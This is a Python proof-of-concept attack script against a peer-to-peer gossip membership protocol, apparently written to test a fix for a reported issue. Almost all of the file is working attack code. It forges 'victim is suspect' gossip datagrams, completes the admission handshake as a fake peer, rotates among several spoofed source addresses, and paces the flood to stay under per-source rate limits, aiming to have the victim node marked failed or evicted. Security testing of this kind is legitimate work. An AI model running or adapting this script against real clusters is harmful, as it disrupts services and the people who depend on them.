#!/usr/bin/python3
"""A keyless LAN peer forging GOSSIP "VICTIM is SUSPECT" datagrams, 28 entries each (the most a
508-byte datagram holds), about incarnation SELF_INCARNATION + OFFSET (mod 2^32); OFFSET 0 claims
the victim's current incarnation, a large one an incarnation it never had.
usage: refute_flood.py VICTIM_IP UDP_PORT NODE_ID_HEX SELF_INCARNATION OFFSET COUNT SRC_IP...
The fake sender first completes the v2 admission handshake with the victim (docs/protocol.md
§11.3): a stranger's gossip is never acted on.
(Issue 18 state-fix 1; from the attacker's /work/attack/state/refute_flood.py.)
"""
import socket, struct, sys, time

from spore_wire import GOSSIP, Peer

vip, port, nid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 16)
inc, offset, count = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
socks = []
for src in sys.argv[7:]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((src, 0))
    socks.append(u)
ip_int = struct.unpack(">I", socket.inet_aton(vip))[0]
entry = struct.pack(">IIIHHB", nid, (inc + offset) & 0xFFFFFFFF, ip_int, port, 80, 2)  # state 2 = suspect
body = bytes([28]) + entry * 28
life = int(time.time()) & 0x7FFFFFFF  # each run a new life of the fake sender: not replays of the last
src0 = struct.unpack(">I", socket.inet_aton(sys.argv[7]))[0]
peer = Peer(socks[0], 0xA77AC001, life, src0, socks[0].getsockname()[1], 80, b"attacker")
if not peer.admit_at((vip, port), nid):
    sys.exit("refute_flood: the victim did not admit the fake sender")
for seq in range(1, count + 1):
    peer.sock = socks[seq % len(socks)]
    peer.send(GOSSIP, nid, body, (vip, port))
    if seq % 50 == 0:
        time.sleep(0.01)  # paced: under the per-source limit, no socket-buffer overflow
